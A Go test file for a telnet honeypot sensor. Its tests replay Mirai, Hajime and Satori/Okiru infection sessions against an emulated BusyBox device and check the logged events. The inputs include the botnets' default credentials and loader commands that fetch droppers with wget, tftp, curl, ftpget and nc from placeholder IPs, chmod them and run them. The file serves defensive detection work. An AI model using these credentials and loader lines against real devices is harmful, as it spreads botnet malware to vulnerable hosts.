package telnet

import (
	"bytes"
	"context"
	"debug/elf"
	"net"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/honeygate/honeygate/internal/event"
	"github.com/honeygate/honeygate/internal/sensor"
	"github.com/honeygate/honeygate/internal/testkit/eventkit"
)

func TestNegotiationMiraiStyle(t *testing.T) {
	h := start(t, DefaultConfig(), defaultLimits())
	opening := h.cl.expect(" login: ")
	want := string([]byte{255, 253, 1, 255, 253, 31, 255, 251, 1, 255, 251, 3})
	if !strings.HasPrefix(opening, want) {
		t.Fatalf("opening = %q, want BusyBox's %q first", opening, want)
	}
	// Mirai's consume_iacs: DO NAWS -> WILL NAWS + SB NAWS 80x24, other DO ->
	// WONT, WILL -> DO; then options no device supports. Like BusyBox
	// telnetd, the honeypot answers none of it: the next bytes it sends are
	// the echo of the login name.
	h.cl.send(string([]byte{
		255, 252, 1,
		255, 251, 31, 255, 250, 31, 0, 80, 0, 24, 255, 240,
		255, 253, 1,
		255, 253, 3,
		255, 253, 24, 255, 251, 34,
	}))
	// A literal 0xFF in data arrives as IAC IAC.
	h.cl.send("ro\xff\xffot\r\n")
	h.cl.expect("Password: ")
	h.cl.send("x\r\n")
	h.cl.expect("Login incorrect")
	h.finish(t)

	sizes := h.pub.OfKind(event.ClientSize)
	if len(sizes) != 1 || sizes[0].Width != 80 || sizes[0].Height != 24 {
		t.Fatalf("client.size events = %+v, want one 80x24", sizes)
	}
	fails := h.pub.OfKind(event.LoginFailed)
	if len(fails) != 1 || fails[0].Username != "ro\xffot" {
		t.Fatalf("login.failed = %+v, want username with one 0xFF", fails)
	}
}

// TestNAWSFloodIsBounded: window-size reports need no login, so a flood of
// them must not become a flood of events.
func TestNAWSFloodIsBounded(t *testing.T) {
	h := start(t, DefaultConfig(), defaultLimits())
	h.cl.expect(" login: ")
	var flood []byte
	for i := 0; i < 1000; i++ {
		flood = append(flood, 255, 250, 31, 0, byte(80+i%2), 0, 24, 255, 240)
	}
	h.cl.send(string(flood) + "root\r\n")
	h.cl.expect("Password: ")
	h.finish(t)
	if n := len(h.pub.OfKind(event.ClientSize)); n != maxSizeEvents {
		t.Fatalf("%d client.size events for 1000 resizes, want %d", n, maxSizeEvents)
	}
}

func TestMiraiScanner(t *testing.T) {
	h := start(t, DefaultConfig(), defaultLimits())
	h.login(t, "root", "xc3511")
	// Router CLI escapes are not ash builtins: a BusyBox device says so, and
	// a bare sh starts a nested shell silently.
	for _, c := range []string{"enable", "system", "shell"} {
		if out := h.cl.cmd(c); out != "sh: "+c+": not found\r\n" {
			t.Fatalf("%s printed %q", c, out)
		}
	}
	if out := h.cl.cmd("sh"); out != "" {
		t.Fatalf("sh printed %q", out)
	}
	if out := h.cl.cmd("/bin/busybox MIRAI"); out != "MIRAI: applet not found\r\n" {
		t.Fatalf("/bin/busybox MIRAI = %q", out)
	}
	h.finish(t)

	kinds := h.pub.Kinds()
	if kinds[0] != event.SessionConnect || kinds[len(kinds)-1] != event.SessionClosed {
		t.Fatalf("kinds = %v: want session.connect first and session.closed last", kinds)
	}
	ok := h.pub.OfKind(event.LoginSuccess)
	if len(ok) != 1 || ok[0].Username != "root" || ok[0].Password == nil || *ok[0].Password != "xc3511" {
		t.Fatalf("login.success = %+v", ok)
	}
	cmds := h.pub.OfKind(event.CommandInput)
	if len(cmds) != 5 || cmds[4].Input != "/bin/busybox MIRAI" || cmds[4].Output != "MIRAI: applet not found\n" {
		t.Fatalf("command.input = %+v", cmds)
	}
	for _, e := range h.pub.Events() {
		if e.Sensor != "test-sensor" || e.Proto != "telnet" || e.SrcIP != "203.0.113.7" || e.SrcPort != 40123 || e.DstPort != 23 || e.Session != ok[0].Session || e.Family == "" {
			t.Fatalf("common fields wrong: %+v", e)
		}
	}
	closed := h.pub.OfKind(event.SessionClosed)[0]
	if closed.Message != "client closed" || closed.Bytes == 0 {
		t.Fatalf("session.closed = %+v", closed)
	}
	if closed.Family != "mirai" {
		t.Logf("note: family at close is %q (depends on attrib rules)", closed.Family)
	}
}

// TestMiraiLoader follows loader/src/server.c and connection.c step by step.
func TestMiraiLoader(t *testing.T) {
	h := start(t, DefaultConfig(), defaultLimits())
	h.login(t, "admin", "admin")
	for _, c := range []string{"enable", "shell", "sh"} {
		h.cl.cmd(c)
	}
	if out := h.cl.cmd("/bin/busybox ECCHI"); !strings.Contains(out, "ECCHI: applet not found") {
		t.Fatalf("ECCHI = %q", out)
	}
	ps := h.cl.cmd("/bin/busybox ps; /bin/busybox ECCHI")
	if !strings.Contains(ps, "PID USER") || !strings.HasSuffix(ps, "ECCHI: applet not found\r\n") {
		t.Fatalf("ps = %q", ps)
	}
	mounts := h.cl.cmd("/bin/busybox cat /proc/mounts; /bin/busybox ECCHI")
	var rw []string
	for _, l := range strings.Split(mounts, "\r\n") {
		if f := strings.Fields(l); len(f) >= 4 && strings.Contains(f[3], "rw") && f[1] != "/proc" && f[1] != "/sys" && f[1] != "/dev/pts" {
			rw = append(rw, f[1])
		}
	}
	if !slices.Contains(rw, "/tmp") {
		t.Fatalf("no writable /tmp in mounts: %q", mounts)
	}
	for _, dir := range rw {
		line := "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69" + dir + "' > " + dir + "/.nippon; /bin/busybox cat " + dir + "/.nippon; /bin/busybox rm " + dir + "/.nippon"
		if out := h.cl.cmd(line); out != "kami"+dir+"\r\n" {
			t.Fatalf("nippon check in %s = %q", dir, out)
		}
	}
	// The root filesystem is read-only, as the loader would find out.
	if out := h.cl.cmd("/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/' > /.nippon"); !strings.Contains(out, "Read-only file system") {
		t.Fatalf("write to / = %q", out)
	}
	h.cl.cmd("cd /tmp/")
	if out := h.cl.cmd("/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI"); out != "ECCHI: applet not found\r\n" {
		t.Fatalf("copy op = %q", out)
	}
	h.cl.send("/bin/busybox cat /bin/echo\r\n")
	h.cl.expect("/bin/busybox cat /bin/echo\r\n")
	raw := h.cl.expect("/tmp # ")
	img := []byte(strings.ReplaceAll(strings.TrimSuffix(raw, "/tmp # "), "\r\n", "\n"))
	img = bytes.ReplaceAll(img, []byte{255, 255}, []byte{255})
	f, err := elf.NewFile(bytes.NewReader(img))
	if err != nil {
		t.Fatalf("cat /bin/echo is not an ELF: %v", err)
	}
	if f.Class != elf.ELFCLASS32 || f.Data != elf.ELFDATA2LSB || f.Machine != elf.EM_ARM {
		t.Fatalf("ELF = %v %v %v, want 32-bit LSB ARM", f.Class, f.Data, f.Machine)
	}
	h.cl.cmd("/bin/busybox ECCHI")
	if out := h.cl.cmd("cat /proc/cpuinfo; /bin/busybox ECCHI"); !strings.Contains(out, "ARM926EJ-S") {
		t.Fatalf("cpuinfo = %q", out)
	}
	methods := h.cl.cmd("/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI")
	if strings.Contains(methods, "wget: applet not found") || strings.Contains(methods, "tftp: applet not found") {
		t.Fatalf("upload methods = %q", methods)
	}
	const url = "http://198.51.100.9:80/bins/mirai.arm"
	out := h.cl.cmd("/bin/busybox wget " + url + " -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI")
	if !strings.Contains(out, "Connecting to 198.51.100.9:80 (198.51.100.9:80)") || !strings.HasSuffix(out, "ECCHI: applet not found\r\n") {
		t.Fatalf("wget = %q", out)
	}
	if out := h.cl.cmd("./dvrHelper telnet.arm; /bin/busybox IHCCE"); out != "IHCCE: applet not found\r\n" {
		t.Fatalf("run = %q", out)
	}
	h.cl.cmd("rm -rf upnp; > dvrHelper; /bin/busybox ECCHI")
	h.finish(t)

	dl := h.pub.OfKind(event.FileDownload)
	if len(dl) != 1 || dl[0].URL != url || dl[0].Tool != "wget" || dl[0].Filename != "/tmp/dvrHelper" {
		t.Fatalf("file.download = %+v", dl)
	}
	// The download event follows the command.input of its line.
	evs := h.pub.Events()
	for i, e := range evs {
		if e.Kind == event.FileDownload && (evs[i-1].Kind != event.CommandInput || !strings.Contains(string(evs[i-1].Input), "wget")) {
			t.Fatalf("file.download not right after its command: %+v", evs[i-1])
		}
	}
}

// TestHajime follows the infection described in Rapidity Networks' paper:
// find a writable dir, drop a tiny ELF with echo, run it into .i and run that.
func TestHajime(t *testing.T) {
	h := start(t, DefaultConfig(), defaultLimits())
	h.cl.expect("login: ")
	h.cl.send("root\r\n")
	h.cl.expect("Password: ")
	h.cl.send("5up\r\n") // not a Mirai default: rejected
	h.cl.expect("Login incorrect")
	h.login(t, "root", "vizxv")
	for _, c := range []string{"enable", "system", "shell", "sh"} {
		h.cl.cmd(c)
	}
	h.cl.cmd("cat /proc/mounts; /bin/busybox ECCHI")
	h.cl.cmd("cd /var/; (cat .s || cp /bin/echo .s); /bin/busybox ECCHI")
	out := h.cl.cmd(`echo -ne "\x7f\x45\x4c\x46\x01\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x28\x00" > .s; /bin/busybox ECCHI`)
	if out != "ECCHI: applet not found\r\n" {
		t.Fatalf("echo > .s = %q", out)
	}
	if out := h.cl.cmd("cat .s; echo"); !strings.HasPrefix(out, "\x7fELF\x01\x01\x01") {
		t.Fatalf(".s = %q", out)
	}
	if out := h.cl.cmd("./.s>.i; chmod +x .i; ./.i; /bin/busybox ECCHI"); out != "ECCHI: applet not found\r\n" {
		t.Fatalf("run .s = %q", out)
	}
	if out := h.cl.cmd("ls -a"); !strings.Contains(out, ".i") || !strings.Contains(out, ".s") {
		t.Fatalf("ls -a = %q", out)
	}
	h.cl.cmd("exit") // leaves the nested sh started above
	h.cl.send("exit\r\n")
	h.cl.waitClosed()
	<-h.done
	closed := h.pub.OfKind(event.SessionClosed)
	if len(closed) != 1 || closed[0].Message != "client exit" {
		t.Fatalf("session.closed = %+v", closed)
	}
	if n := len(h.pub.OfKind(event.LoginFailed)); n != 1 {
		t.Fatalf("login.failed = %d, want 1", n)
	}
}

// TestSatori follows the Satori/Okiru telnet variants: Mirai's flow with
// their own tokens and a dropper fetched by tftp or wget under other names.
func TestSatori(t *testing.T) {
	h := start(t, DefaultConfig(), defaultLimits())
	h.login(t, "root", "Zte521")
	for _, tok := range []string{"SATORI", "OKIRU"} {
		if out := h.cl.cmd("/bin/busybox " + tok); out != tok+": applet not found\r\n" {
			t.Fatalf("%s = %q", tok, out)
		}
	}
	if out := h.cl.cmd("busybox OKIRU"); out != "OKIRU: applet not found\r\n" {
		t.Fatalf("busybox OKIRU = %q", out)
	}
	h.cl.cmd("cd /tmp; /bin/busybox tftp -g -l .okiru -r okiru.mips 198.51.100.20 69; /bin/busybox chmod 777 .okiru; ./.okiru telnet.mips")
	h.cl.cmd(`sh -c "wget http://198.51.100.20/bins/okiru.x86 -O /tmp/.o"`)
	if out := h.cl.cmd("curl -o /tmp/x http://198.51.100.20/c.sh"); out != "sh: curl: not found\r\n" {
		t.Fatalf("curl = %q", out)
	}
	h.cl.cmd("cd /var; ftpget -u anon -p pw 198.51.100.21 f.bin /pub/f.bin; nc 198.51.100.22 4444 > n.bin")
	h.finish(t)
	var got []string
	for _, d := range h.pub.OfKind(event.FileDownload) {
		got = append(got, string(d.Tool+" "+d.URL+" "+d.Filename))
	}
	want := []string{
		"tftp tftp://198.51.100.20:69/okiru.mips /tmp/.okiru",
		// sh -c runs its text: wget saw its -O.
		"wget http://198.51.100.20/bins/okiru.x86 /tmp/.o",
		"curl http://198.51.100.20/c.sh /tmp/x",
		"ftpget ftp://anon:pw@198.51.100.21/pub/f.bin /var/f.bin",
		"nc tcp://198.51.100.22:4444 /var/n.bin",
	}
	if !slices.Equal(got, want) {
		t.Fatalf("downloads:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

func TestMaxAttempts(t *testing.T) {
	cfg := DefaultConfig()
	cfg.Login.MaxAttempts = 2
	h := start(t, cfg, defaultLimits())
	for i := 0; i < 2; i++ {
		h.cl.expect("login: ")
		h.cl.send("root\r\n")
		h.cl.expect("Password: ")
		h.cl.send("wrong\r\n")
		h.cl.expect("\r\nLogin incorrect\r\n")
	}
	h.cl.waitClosed()
	<-h.done
	if n := len(h.pub.OfKind(event.LoginFailed)); n != 2 {
		t.Fatalf("login.failed = %d", n)
	}
	if c := h.pub.OfKind(event.SessionClosed); c[0].Message != "too many login attempts" {
		t.Fatalf("closed = %+v", c)
	}
}

func TestLoginModes(t *testing.T) {
	cfg := DefaultConfig()
	cfg.Login = LoginPolicy{Mode: LoginList, Accept: []Credential{{Username: "me", Password: ""}}, MaxAttempts: 3}
	h := start(t, cfg, defaultLimits())
	h.cl.expect("login: ")
	h.cl.send("root\r\nxc3511\r\n") // pipelined, and not on the list
	h.cl.expect("Login incorrect")
	h.login(t, "me", "")
	h.finish(t)
	ok := h.pub.OfKind(event.LoginSuccess)
	if len(ok) != 1 || ok[0].Password == nil || *ok[0].Password != "" {
		t.Fatalf("empty password not recorded as such: %+v", ok)
	}
}

func TestMaxCommands(t *testing.T) {
	l := defaultLimits()
	l.MaxCommands = 3
	h := start(t, DefaultConfig(), l)
	h.login(t, "root", "admin")
	h.cl.cmd("id")
	h.cl.cmd("id")
	h.cl.send("id\r\n")
	h.cl.expect("uid=0(root)")
	h.cl.waitClosed()
	<-h.done
	if n := len(h.pub.OfKind(event.CommandInput)); n != 3 {
		t.Fatalf("command.input = %d", n)
	}
	if c := h.pub.OfKind(event.SessionClosed); c[0].Message != "command limit" {
		t.Fatalf("closed = %+v", c)
	}
}

func TestServerStopAndPanic(t *testing.T) {
	pub := &eventkit.Recorder{}
	s, err := New(DefaultConfig(), Options{Publisher: pub, Sensor: "s"})
	if err != nil {
		t.Fatal(err)
	}
	s.hook = func(line string) {
		if line == "boom" {
			panic("boom in shell")
		}
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	srv := &sensor.Server{Handler: s, Limits: sensor.DefaultLimits(), Publisher: pub, Sensor: "s"}
	served := make(chan error, 1)
	go func() { served <- srv.Serve(ctx, ln) }()

	c, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	cl := newClient(t, c)
	h := &harness{cl: cl}
	h.login(t, "root", "root")
	cl.send("boom\r\n")
	cl.waitClosed()

	// A second session is ended by the server stopping.
	c2, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	cl2 := newClient(t, c2)
	cl2.expect("login: ")
	cancel()
	cl2.waitClosed()
	if err := <-served; err != nil {
		t.Fatal(err)
	}
	panics := pub.OfKind(event.SessionPanic)
	if len(panics) != 1 || panics[0].Message != "boom in shell" {
		t.Fatalf("session.panic = %+v", panics)
	}
	var loginSession string
	for _, e := range pub.OfKind(event.LoginSuccess) {
		loginSession = e.Session
	}
	if panics[0].Session != loginSession {
		t.Fatalf("panic session %q, want the panicking session %q", panics[0].Session, loginSession)
	}
	closed := pub.OfKind(event.SessionClosed)
	if len(closed) != 1 || closed[0].Message != "server stop" {
		t.Fatalf("session.closed = %+v", closed)
	}
}

func TestIdleTimeout(t *testing.T) {
	pub := &eventkit.Recorder{}
	s, _ := New(DefaultConfig(), Options{Publisher: pub})
	srv, cli := net.Pipe()
	defer cli.Close()
	cl := newClient(t, cli)
	done := make(chan struct{})
	go func() {
		s.Handle(context.Background(), sensor.NewConn(srv, 50*time.Millisecond, 1<<20), testInfo())
		srv.Close()
		close(done)
	}()
	cl.expect("login: ")
	<-done
	if c := pub.OfKind(event.SessionClosed); len(c) != 1 || c[0].Message != "idle timeout" {
		t.Fatalf("closed = %+v", c)
	}
}

func TestConfigValidate(t *testing.T) {
	if err := DefaultConfig().Validate(); err != nil {
		t.Fatal(err)
	}
	c := DefaultConfig()
	c.Profile.Arch = "riscv"
	c.Profile.Hostname = ""
	c.Login.Mode = "some"
	c.Login.MaxAttempts = 0
	err := c.Validate()
	for _, field := range []string{"profile.arch", "profile.hostname", "login.mode", "login.max_attempts"} {
		if err == nil || !strings.Contains(err.Error(), field) {
			t.Fatalf("Validate() = %v, want it to name %s", err, field)
		}
	}
	c = DefaultConfig()
	c.Login.Mode = LoginList
	if err := c.Validate(); err == nil || !strings.Contains(err.Error(), "login.accept") {
		t.Fatalf("list without accept: %v", err)
	}
}

// TestBruteForceLabel: three named logins on telnet are a password guesser
// with no family ("bruteforce"), not the SMB rule's family, which counts
// logins only in SMB sessions.
func TestBruteForceLabel(t *testing.T) {
	cfg := DefaultConfig()
	cfg.Login.MaxAttempts = 3
	h := start(t, cfg, defaultLimits())
	for _, up := range [][2]string{{"root", "wrong"}, {"admin", "nimda"}, {"guest", "not-a-password"}} {
		h.cl.expect("login: ")
		h.cl.send(up[0] + "\r\n")
		h.cl.expect("Password: ")
		h.cl.send(up[1] + "\r\n")
		h.cl.expect("\r\nLogin incorrect\r\n")
	}
	h.cl.waitClosed()
	<-h.done
	closed := h.pub.OfKind(event.SessionClosed)
	if len(closed) != 1 {
		t.Fatalf("session.closed = %d", len(closed))
	}
	c := closed[0]
	if c.Family != "bruteforce" || len(c.Reasons) != 1 || !strings.HasPrefix(c.Reasons[0], "bruteforce (+1):") {
		t.Fatalf("family %q reasons %q, want bruteforce", c.Family, c.Reasons)
	}
	for _, e := range h.pub.OfKind(event.SessionAttributed) {
		if e.Family == "smb-bruteforce" {
			t.Errorf("attributed smb-bruteforce on telnet: %q", e.Reasons)
		}
	}
}
